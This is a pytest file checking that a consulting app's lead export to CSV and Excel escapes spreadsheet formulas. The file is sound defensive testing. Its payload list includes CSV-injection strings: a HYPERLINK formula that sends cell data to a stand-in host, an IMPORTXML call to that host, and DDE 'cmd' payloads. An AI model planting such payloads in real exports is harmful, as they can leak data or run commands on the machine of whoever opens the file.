"""Leads as a table: what it contains, and that no cell is a formula."""

import csv
import io
import re
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from consult.delivery.exports.export_files import (
    NO_ANSWER,
    columns,
    csv_chunks,
    escape_formula,
    write_xlsx,
)
from consult.questionnaire.editions import newest
from consult.storage.exports.lead_export import Lead
from consult.storage.tables.submission_tables import ContactRow

LEAD: Lead = dict.fromkeys(ContactRow.__table__.columns.keys()) | {
    "id": 7,
    "submitted_at": datetime(2026, 11, 20, 14, 5, 33, tzinfo=UTC),
    "demo": False,
    "edition": "2026-12",
    "depth": "quick",
    "seconds_taken": 390,
    "name": "Dana Okafor",
    "business": "Okafor Roofing",
    "email": "dana@example.com",
    "phone": "+1 555 0100",
    "wants_consult": True,
    "consented_at": datetime(2026, 11, 20, 14, 9, tzinfo=UTC),
    "stage": "consult_booked",
    "stage_since": datetime(2026, 11, 21, 8, 0, tzinfo=UTC),
    "assignee": "Grace Hopper",
    "due_at": None,
    "first_contact_at": None,
    "consult_at": None,
    "pressed_at": datetime(2026, 11, 20, 14, 12, tzinfo=UTC),
    "booking": "requested",
    "calendar": "own",
    "follow_up_on": None,
    "won_amount": 120_050,
    "won_currency": "CHF",
    "tags": {"utm_source": "newsletter"},
    "separation": 49.97,
    "separation_band": "Blurred",
    "handoff": 31.25,
    "handoff_band": "Leaky",
    "archetype": "Baton on the floor",
    "consult": "not_now",
    "plan": ["First reply", "One place for leads"],
    "answers": {
        "first_reply": 2,
        "symptoms": ("no_time",),
        "patience": "unknown",
        "first_sale_value": 1200,
    },
    "wording": {
        "first_reply": {"choices": {"0": "Whenever", "2": "The same day"}},
        "symptoms": {"choices": {"no_time": "No time"}},
        "patience": {"choices": {}},
        "first_sale_value": {"choices": {}},
        "lead_list": {"choices": {"0": "Nowhere"}},
    },
}
# After OWASP, "CSV Injection", and what was seen in reports of it.
PAYLOADS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1"),
    *("\u200b=1+1", "'=1+1", '"=1+1', '",=1+1', ";=1+1", 'x",=1+1,"', "x;=1+1", "x\t=1+1"),
    *("x\n=1+1", "x | =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"),
    *('=HYPERLINK("https://evil.example?x="&A1,"Click")', "=cmd|' /C calc'!A0"),
    *("-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("https://evil.example"), "//a")'),
)
SIGNS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def lines_of(*leads: Lead) -> list[list[str]]:
    content = b"".join(csv_chunks(columns(UTC), [leads]))
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def row_of(lead: Lead) -> dict[str, str]:
    head, row = lines_of(lead)
    assert len(set(head)) == len(head)
    return dict(zip(head, row, strict=True))


def sheet_of(folder: Path, batches: Sequence[Sequence[Lead]]):  # type: ignore[no-untyped-def]
    file = folder / "leads.xlsx"
    with file.open("w+b") as target:
        write_xlsx(target, folder, columns(UTC), batches)
    return load_workbook(file)["Leads"]


def unescaped(text: str) -> str:
    """What `escape_formula` made this of: the same rule, backward."""
    read: list[str] = []
    begins = True
    for letter in text:
        if begins and letter in SIGNS:
            assert read, f"nothing before {letter!r} in {text!r}"
            assert read.pop() == "'", f"no apostrophe before {letter!r} in {text!r}"
        read.append(letter)
        begins = letter in ",;|\"'\t\r\n" or (
            begins and (letter.isspace() or letter in "\ufeff\u200b\u200c\u200d\u2060")
        )
    return "".join(read)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_begins_a_formula(payload: str) -> None:
    lead = {**LEAD, "name": payload, "tags": {"ref": payload}}
    content = b"".join(csv_chunks(columns(UTC), [[lead]])).decode("utf-8-sig")
    # As programs with other habits than ours would part it into cells.
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
            for cell in row:
                bare = cell.lstrip(' "\ufeff\u200b')
                assert (
                    not bare or cell == LEAD["phone"] or bare[0] not in SIGNS - frozenset("\r\n")
                ), cell


@given(
    st.text(
        alphabet=st.characters(exclude_categories=["Cs"])
        | st.sampled_from("=+-@,;|\"'\t\r\n \u200b\uff1dx")
    )
)
@example("+000000")
def test_an_escaped_text_begins_no_formula_and_can_be_recovered(text: str) -> None:
    if re.fullmatch(r"\+[0-9][0-9 ().-]{5,}", text):  # a telephone number
        assert escape_formula(text) == text.replace("-", " ")
    else:
        assert unescaped(escape_formula(text)) == text


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("+44 20 7946 0958", "+44 20 7946 0958"),
        ("+1-555-123-4567", "+1 555 123 4567"),
        ("+1 (555) 123.4567", "+1 (555) 123.4567"),
        ("+1+2-3", "'+1+2-3"),
        ("+44 20 7946 0958|cmd", "'+44 20 7946 0958|cmd"),
        ("-12345678", "'-12345678"),
    ],
)
def test_a_telephone_number_is_no_formula(typed: str, written: str) -> None:
    assert escape_formula(typed) == written


def test_a_csv_quotes_every_cell_and_says_dates_so_that_programs_know_them() -> None:
    content = b"".join(csv_chunks(columns(UTC), [[LEAD]])).decode("utf-8-sig")
    assert content.startswith('"Lead","Business","Name","Finished (UTC)",')
    assert content.count("\r\n") == 2
    assert '"2026-11-20 14:05","No","2026-12"' in content
    assert all(line.startswith('"') and line.endswith('"') for line in content.split("\r\n")[:-1])


def test_times_are_in_the_zone_of_the_agency() -> None:
    (sent,) = [c for c in columns(ZoneInfo("America/New_York")) if c.header.startswith("Finished")]
    assert sent.header == "Finished (America/New_York)"
    assert sent.cell(LEAD) == datetime(2026, 11, 20, 9, 5)  # noqa: DTZ001


def test_a_row_is_in_words() -> None:
    row = row_of(LEAD)
    assert row["Name"] == "Dana Okafor"
    assert row["Phone"] == "+1 555 0100"
    assert row["Stage"] == "Consult scheduled"
    assert row["Source"] == "newsletter"
    assert row["Separation"] == "49.9"  # 50.0 would be the next band
    assert row["Consult advised"] == "Not now"
    assert row["Opened the calendar (UTC)"] == "2026-11-20 14:12"
    assert (row["Booking"], row["Booked in"]) == ("Requested", "Our calendar")
    assert (row["Plan, step 2"], row["Plan, step 3"]) == ("One place for leads", "")
    assert row["First reply (first_reply)"] == "The same day"
    assert row[f"{newest().wording('symptoms').ask} (symptoms)"] == "No time"
    assert row[f"{newest().wording('patience').title} (patience)"] == "I don’t know."
    assert row["One place for leads (lead_list)"] == NO_ANSWER
    assert row["Marketing goal (marketing_goal)"] == ""  # was not asked


@pytest.mark.parametrize(
    ("answers", "cell"),
    [
        (
            {"own_words": "=1+1\n<b>late\u202e</b>" + "x" * 300},
            "'=1+1\n<b>late\u202e</b>" + "x" * 300,
        ),
        ({"own_words": "unknown"}, "unknown"),
        ({}, ""),  # skipped, or removed when it was anonymized
    ],
)
def test_owners_words_are_a_column(tmp_path: Path, answers: dict[str, str], cell: str) -> None:
    lead = {**LEAD, "answers": answers, "wording": {"own_words": {"choices": {}}}}
    (head,) = [name for name in row_of(lead) if name.endswith("(own_words)")]
    assert row_of(lead)[head] == cell
    sheet = sheet_of(tmp_path, [[lead]])
    (written,) = [column[1] for column in sheet.columns if column[0].value == head]
    assert (written.value or "") == answers.get("own_words", "")
    assert written.data_type != "f"


def test_the_questions_are_in_their_order() -> None:
    head = [column.header for column in columns(UTC)]
    order = [
        head.index(next(h for h in head if h.endswith(f"({id})"))) for id in newest().questions
    ]
    assert order == sorted(order)
    assert order[-1] == len(head) - 1


def test_a_workbook_has_texts_that_are_texts_and_real_numbers_and_dates(tmp_path: Path) -> None:
    leads = [{**LEAD, "id": number, "name": name} for number, name in enumerate(PAYLOADS, start=1)]
    sheet = sheet_of(tmp_path, [leads[:20], leads[20:]])
    assert [file.name for file in tmp_path.iterdir()] == ["leads.xlsx"]
    assert zipfile.is_zipfile(tmp_path / "leads.xlsx")
    head = [cell.value for cell in sheet[1]]
    assert head == [column.header for column in columns(UTC)]
    assert sheet.freeze_panes == "C2"
    for row, payload in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
        by_head = dict(zip(head, row, strict=True))
        # XML knows no bare carriage return.
        assert by_head["Name"].value.replace("_x000D_", "\r") == payload
        assert all(cell.data_type != "f" for cell in row)
        assert by_head["Finished (UTC)"].value == datetime(2026, 11, 20, 14, 5)  # noqa: DTZ001
        assert by_head["Handoff"].value == 31.3
        (sale,) = [cell for name, cell in by_head.items() if name.endswith("(first_sale_value)")]
        assert sale.value == 1200
        assert by_head["Phone"].value == "+1 555 0100"


@pytest.mark.parametrize("odd", ["\ud800", "\x00\x01\x0b", "x" * 40_000, "<b>&amp;", "\ufffe"])
def test_no_text_breaks_a_file(tmp_path: Path, odd: str) -> None:
    lead = {**LEAD, "business": odd}
    assert row_of(lead)["Name"] == "Dana Okafor"
    sheet = sheet_of(tmp_path, [[lead]])
    assert sheet["A2"].value == 7
    assert sheet["H2"].value
